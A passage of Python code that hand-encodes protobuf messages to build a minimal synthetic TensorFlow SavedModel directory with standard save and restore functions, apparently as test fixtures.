            n >>= 7
            if not n:
                return out

    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    data = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(data)) + data


def saved_model(graph_ops: list[str], functions: dict[str, list[str]]) -> bytes:
    """saved_model.pb: SavedModel{1: 1, 2: MetaGraphDef{2: GraphDef{1: nodes, 2: library}}}."""
    nodes = b"".join(proto(1, proto(1, f"n{i}") + proto(2, op)) for i, op in enumerate(graph_ops))
    library = b"".join(
        proto(1, proto(1, proto(1, name)) + b"".join(proto(3, proto(1, op) + proto(2, op))
                                                    for op in ops))
        for name, ops in functions.items()
    )  # fmt: skip
    meta = proto(1, proto(4, "serve")) + proto(2, nodes + proto(2, library))
    return proto(1, 1) + proto(2, meta)


def saved_model_dir(graph_ops: list[str], functions: dict[str, list[str]]) -> dict[str, bytes]:
    save = {"__inference__traced_save_42": ["StringJoin", "ShardedFilename", "SaveV2",
                                            "MergeV2Checkpoints"],
            "__inference__traced_restore_57": ["RestoreV2", "AssignVariableOp"]}  # fmt: skip
    return {
        "saved_model.pb": saved_model(graph_ops, {**save, **functions}),
        "fingerprint.pb": proto(1, 123456789) + proto(2, 42) + proto(5, proto(1, 1)),
        "variables/variables.index": b"\x00" * 40 + bytes.fromhex("57fb808b247547db"),
        "variables/variables.data-00000-of-00001": struct.pack("<8f", *range(8)),
    }
